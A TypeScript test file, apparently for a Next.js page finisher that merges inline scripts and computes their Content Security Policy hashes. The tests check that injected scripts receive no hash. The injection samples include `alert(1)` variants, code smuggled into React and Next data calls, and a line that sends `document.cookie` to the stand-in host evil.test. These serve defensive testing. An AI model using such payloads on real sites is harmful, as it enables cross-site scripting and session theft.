import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { expect, it } from "vitest";
import { earlyScript } from "#lib/browser/early-presses.ts";
import { markScript } from "#lib/theme/mark-script.ts";
import { finishPage, scriptSources } from "./page-scripts.ts";

const hash = (text: string): string => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

const bundle = `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[4]});`;
const opening = `(self.__next_f=self.__next_f||[]).push([0])`;
const data = (text: string): string => `self.__next_f.push([1,${JSON.stringify(text)}])`;
const inline = (text: string, attributes = ""): string => `<script${attributes}>${text}</script>`;
const file = (name: string, id = ""): string => `<script src="/_next/static/chunks/${name}.js"${id} async=""></script>`;
const start = file("main", ' id="_R_"');

const page = (content = "") =>
  `<html><head>${file("a")}<script src="/_next/static/chunks/old.js" noModule=""></script></head><body>${content}` +
  `<script type="application/ld+json">{"name":"robe"}</script><script id="texts" type="application/json">{}</script>` +
  `${start}${[bundle, opening, data("1:a\n"), data('2:"b"')].map((text) => inline(text)).join("")}</body></html>`;

/** The texts of the inline scripts of a page that may run. */
const textsOf = (html: string): string[] =>
  [...html.matchAll(/<script(?![^>]*(?: src| type)=)[^>]*>([^]*?)<\/script>/g)].map(([, text = ""]) => text);

it("makes one script of all that stand at the end of a page, and names it and no other", () => {
  const { html, scripts } = finishPage(page());
  const texts = textsOf(html);
  expect(texts).toHaveLength(1);
  expect(scripts).toEqual([hash(texts[0] ?? "")]);
  for (const text of [bundle, opening, data("1:a\n"), data('2:"b"')]) expect(texts[0]).toContain(text);
  expect(html).toContain(`<script type="application/ld+json">{"name":"robe"}</script>`);
  expect(html.length).toBeLessThan(page().length + 900);
});

it("hands over the same data in the same order", () => {
  const self: Record<string, unknown[]> = {};
  const world = { self, document: undefined, globalThis: {} };
  const joined = (textsOf(finishPage(page()).html)[0] ?? "").replace(/^\(d=>[^]*?\)\(document\);/, "");
  // oxlint-disable-next-line typescript/no-implied-eval -- as the browser does
  new Function(...Object.keys(world), joined)(...Object.values(world));
  expect(self["__next_f"]).toEqual([[0], [1, "1:a\n"], [1, '2:"b"']]);
});

it("names the marks of a page by the same hash, whatever they are", () => {
  const marked = (attributes: string) => finishPage(page(inline(markScript, attributes))).scripts;
  expect(marked(' data-theme="woman"')).toEqual(marked(' data-banner="hidden"'));
  expect(marked(' data-theme="woman"')).toContain(hash(markScript));
});

it("names the script that keeps early presses, which weighs less than a kilobyte", () => {
  expect(finishPage(page(inline(earlyScript))).scripts).toContain(hash(earlyScript));
  expect(earlyScript.length).toBeLessThanOrEqual(1024);
});

it.each([
  ["any other", "alert(1)"],
  ["data with code in it", `self.__next_f.push([1,alert(1)])`],
  ["data with code behind it", `self.__next_f.push([1,"a"]);alert(1)`],
  ["data before the page has ended", data("1:injected")],
  ["React's with code before it", `alert(1);$RC("B:1","S:1")`],
  ["React's with code in it", `$RC("B:1",alert(1))`],
  ["a fetch of something else", `__NEXT_CLIENT_RESUME=fetch('https://evil.test/'+document.cookie)`],
])("does not name an injected script: %s", (_, text) => {
  const { html, scripts } = finishPage(page(inline(text)));
  expect(textsOf(html)).toContain(text);
  expect(scripts).not.toContain(hash(text));
  expect(scripts).toHaveLength(1);
  expect(scriptSources(inline(text) + start)).toEqual([]);
});

it("ends the one script where a stranger's begins", () => {
  const { html, scripts } = finishPage(page().replace(inline(opening), inline("alert(1)") + inline(opening)));
  const [joined = "", stranger, ...rest] = textsOf(html);
  expect(joined).toContain(bundle);
  expect(stranger).toBe("alert(1)");
  expect(scripts).toEqual([joined, ...rest].map(hash));
});

it("takes the nonce of a visit out of a page that is for everybody", () => {
  const visited = page().replaceAll("<script", '<script nonce="aGVsbG8="');
  expect(finishPage(visited)).toEqual(finishPage(page()));
});

it("names Next's scripts in a page it has put together before anybody asked for it", () => {
  const texts = [
    `__NEXT_CLIENT_RESUME=fetch(location.pathname+'?_rsc=xhd-r_1',{credentials:'same-origin',headers:{'rsc': '1','next-router-prefetch': '1','next-router-segment-prefetch': '/_full'}})`,
    bundle,
    opening,
  ];
  const [first = "", ...rest] = texts.map((text) => inline(text));
  expect(scriptSources(first + start + rest.join(""))).toEqual(texts.map(hash));
});

/** What React writes into pages, read from the React that Next brings along. */
function reactTexts(): string[] {
  const source = readFileSync(
    "node_modules/next/dist/compiled/react-dom/cjs/react-dom-server.node.production.js",
    "utf8",
  );
  const literals = source.matchAll(/'(\$R(?:S|B|X)=[^\n]*?)'\s*[),]|"(requestAnimationFrame\([^"\n]*)"/g);
  return [...literals].map(([, first, second]) => (first ?? second ?? "").replaceAll(String.raw`\n`, "\n"));
}

it("names the instructions of the React that Next brings along", () => {
  const texts = reactTexts();
  expect(texts.length).toBeGreaterThanOrEqual(4);
  for (const text of texts) {
    const call = /\$R[A-Z]\("$/.test(text) ? `${text}B:0","S:0")` : `${text}$RC("B:1","S:1");$RC("B:2","S:2")`;
    const written = text.startsWith("request") ? text : call;
    expect([written, scriptSources(inline(written))]).toEqual([written, [hash(written)]]);
    expect(scriptSources(inline(`${written};alert(1)`))).toEqual([]);
  }
});
